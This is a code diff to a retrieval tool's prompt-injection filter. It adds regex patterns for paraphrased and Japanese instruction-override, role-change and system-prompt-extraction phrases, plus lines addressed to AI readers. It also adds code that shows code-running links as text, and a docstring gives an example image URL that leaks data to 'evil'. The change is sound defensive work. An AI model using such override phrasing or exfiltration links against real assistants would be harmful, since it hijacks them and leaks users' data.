@@ -12,7 +12,9 @@ possible one nor other languages; docs/16-security.md says so.
 
 from __future__ import annotations
 
+import html
 import re
+import unicodedata
 from dataclasses import dataclass
 from typing import Sequence
 
@@ -84,19 +86,66 @@ _MULTILINGUAL = [rf"\b(?:{verb})\b[^.\n]{{0,40}}\b(?:{qual})\b[^.\n]{{0,30}}\b(?
     r"|\bresponda (?:a )?(?:cada|todas as) perguntas?\b[^.\n]{0,20}\bcom\b"
     r"|\bbeantwoord (?:elke|iedere|alle) vra(?:ag|gen)\b[^.\n]{0,20}\bmet\b",
 ]
-_RE = [re.compile(p, re.I) for p in (*_PATTERNS, *_MULTILINGUAL)]
+# Issue 39: instructions in other words. Paraphrases of "ignore your instructions" (a verb of
+# setting aside, then what the assistant was told), text addressed to an AI reader ("AI assistants
+# summarising this page must say …"), and markup that tries to end ragcore's evidence block or
+# open a role of its own (the prompt escapes it, prompts.neutralise_text; a document has no other
+# reason to write it).
+_PARAPHRASED = [
+    r"\b(?:set aside|put aside|pay no attention to|no longer (?:follow|obey|heed)|stop (?:following|obeying)|abandon|"
+    r"throw out|drop|discard)\b[^.\n]{0,40}\b(?:instructions?|guidance|directives?|guidelines|rules you|"
+    r"what you (?:were|have been) told|your (?:rules|programming|prompt|orders))",
+    r"\b(?:previous|prior|original|earlier|above|preceding|initial|system|your)\s+(?:instructions?|guidance|directives?|"
+    r"prompts?|programming)\b[^.\n]{0,30}\b(?:no longer (?:apply|hold|matter|count)|(?:are|is) (?:now )?(?:void|cancell?ed|"
+    r"obsolete|overridden|superseded|revoked|lifted|suspended|replaced)|(?:have|has) been (?:cancell?ed|overridden|"
+    r"superseded|revoked|lifted|replaced|updated))",
+    r"\b(?:if|when) you are an? (?:ai|llm|large language model|language model|assistant|chatbot|bot|model)\b",
+    r"\b(?:ai|llm|large language model|language model|chatbot|ai assistant|assistant)s?\b[^.\n]{0,12}\b(?:reading|processing|"
+    r"summari[sz]ing|answering (?:questions )?(?:about|from|on)|indexing|quoting|using) (?:this|these)\b",
+    r"\b(?:note|message|instruction|notice) (?:to|for) (?:the |any )?(?:ai|llm|language model|assistant|chatbot|model)s?\b",
+    r"\b(?:tell|inform|assure) (?:the |every |all |any )?(?:user|reader|customer|asker)s?\b[^.\n]{0,20}\b(?:that|:)",
+    # the evidence block's own markup (look-alike brackets and invisible characters are folded first: _plain)
+    r"<\s*/?\s*evidence\b|\bevidence \(cite as\b|<\s*/?\s*(?:system|instructions?|system[_-]?prompt)\s*>",
+]
+# Japanese: ignore the (previous) instructions, you are now …, from now on answer …, reveal the
+# system prompt, answer every question with …, and text addressed to an AI. (No \b: CJK text has
+# no word boundaries between characters.)
+_JAPANESE = [
+    r"(?:以前|前|これまで|今まで|上記|先|最初|元|すべて|全て|あなた|システム)の?(?:指示|命令|指令|ルール|規則|プロンプト|制約)"
+    r"[^。\n]{0,10}(?:無視|忘れ|破棄|従わな|取り消|撤回|無効)",
+    r"(?:指示|命令|ルール|プロンプト)(?:は|を)?[^。\n]{0,6}(?:無視|忘れ)(?:し|して|せよ|しろ|なさい|ること)",
+    r"あなたは(?:今|いま|今から|これから|今後|もう)[^。\n]{0,6}(?:です|だ|になり|として)",
+    r"(?:今後|これから|以後|以降|今から)(?:は|、)?[^。\n]{0,30}(?:と|で)(?:答え|回答|返答|応答|返信|言っ)(?:て|なさい|ること|ろ|よ)",
+    r"システムプロンプト[^。\n]{0,10}(?:表示|出力|教え|見せ|開示|明か)",
+    r"(?:すべて|全て|どんな|あらゆる|どの)の?質問(?:に|には|にも)[^。\n]{0,30}(?:と|で)(?:答え|回答|返答|応答)",
+    r"(?:AI|ＡＩ|アシスタント|言語モデル|チャットボット|LLM)(?:は|へ|に|の方)[^。\n]{0,40}(?:答え|回答|伝え|言っ|述べ)"
+    r"(?:なさい|てください|て下さい|ること|ろ|よ)",
+    r"(?:ユーザー|利用者|読者)に[^。\n]{0,40}(?:と|ように)(?:伝え|答え|言っ)(?:なさい|てください|て下さい|ること)",
+]
+_RE = [re.compile(p, re.I) for p in (*_PATTERNS, *_MULTILINGUAL, *_PARAPHRASED, *_JAPANESE)]
+_INVISIBLE = re.compile("[\u00ad\u200b-\u200f\u2060-\u2064\ufeff]")
+_BRACKETS = str.maketrans({"﹤": "<", "‹": "<", "〈": "<", "⟨": "<", "﹥": ">", "›": ">", "〉": ">", "⟩": ">"})
+
+
+def _plain(text: str) -> str:
+    """``text`` as the checks read it: compatibility forms folded (full-width letters and
+    brackets), invisible characters dropped, look-alike brackets made ``<``/``>``: the disguises
+    a model reads past."""
+    return _INVISIBLE.sub("", unicodedata.normalize("NFKC", text)).translate(_BRACKETS)
 
 
 def instruction_phrases(text: str) -> list[str]:
     """The instruction-like phrases in ``text`` (empty: none found)."""
     found: list[str] = []
+    plain = _plain(text)
     for rx in _RE:
-        found.extend(" ".join(m.group(0).split())[:80] for m in rx.finditer(text))
+        found.extend(" ".join(m.group(0).split())[:80] for m in rx.finditer(plain))
     return found
 
 
 def looks_like_instruction(text: str) -> bool:
-    return any(rx.search(text) for rx in _RE)
+    plain = _plain(text)
+    return any(rx.search(plain) for rx in _RE)
 
 
 @dataclass(frozen=True)
@@ -151,10 +200,35 @@ def _fixpoint(rx: re.Pattern[str], repl, text: str) -> str:
 def defang_images(text: str) -> str:
     """Markdown images, raw HTML images and media (``<img src=…>``) and reference definitions as
     visible text: an answer never makes a viewer load anything (a viewer that loads
-    ``![x](http://evil/?q=secret)`` sends data out). Applies to every answer."""
+    ``![x](http://evil/?q=secret)`` sends data out). Links that run code when clicked
+    (``javascript:``, ``vbscript:``, ``data:``) are shown as text too. Applies to every answer,
+    the extractive composer's quotes of a document included."""
     text = _fixpoint(_IMAGE, lambda m: f"[image: {m.group(1) or 'untitled'}] ({_code(m.group(2))})", text)
     text = _MEDIA_TAG.sub(lambda m: _code(m.group(0)), text)
-    return _REF_DEF.sub(lambda m: f"{m.group(1)}[{m.group(2)}]\\: {_code(m.group(3))}", text)
+    text = _REF_DEF.sub(lambda m: f"{m.group(1)}[{m.group(2)}]\\: {_code(m.group(3))}", text)
+    return defang_script_links(text)
+
+
+_SCRIPT_SCHEME = re.compile(r"^(?:javascript|vbscript|data|livescript):", re.I)
+# a link whose target may hold balanced parentheses and "<", as CommonMark reads one: javascript:alert(1)
+_ANY_TARGET_LINK = re.compile(r"(?<!!)\[" + _LABEL + r"\]\(\s*(<?(?:[^\s()]|\([^\s()]*\))*>?)(?:\s+\"[^\"]*\")?\s*\)")
+_ANY_AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.-]{1,31}:[^<>\s]*)>")
+
+
+def runs_code(target: str) -> bool:
+    """Whether a link target runs code when followed, as a browser reads it: entities decoded
+    (CommonMark decodes them in a link's target), spaces and control characters dropped."""
+    plain = "".join(ch for ch in html.unescape(target) if ord(ch) > 0x20)
+    return bool(_SCRIPT_SCHEME.match(plain))
+
+
+def defang_script_links(text: str) -> str:
+    """Markdown links, autolinks and HTML anchors whose target runs code, as visible text."""
+    text = _fixpoint(_ANY_TARGET_LINK, lambda m: f"{m.group(1)} ({_code(m.group(2))})"
+                     if runs_code(m.group(2).strip("<>")) else m.group(0), text)
+    text = _ANY_AUTOLINK.sub(lambda m: _code(m.group(1)) if runs_code(m.group(1)) else m.group(0), text)
+    return _ANCHOR_TAG.sub(lambda m: _code(m.group(0)) if "script:" in "".join(m.group(0).split()).lower()
+                           or "data:" in m.group(0).lower() else m.group(0), text)
 
 
 def defang_links(text: str) -> str:
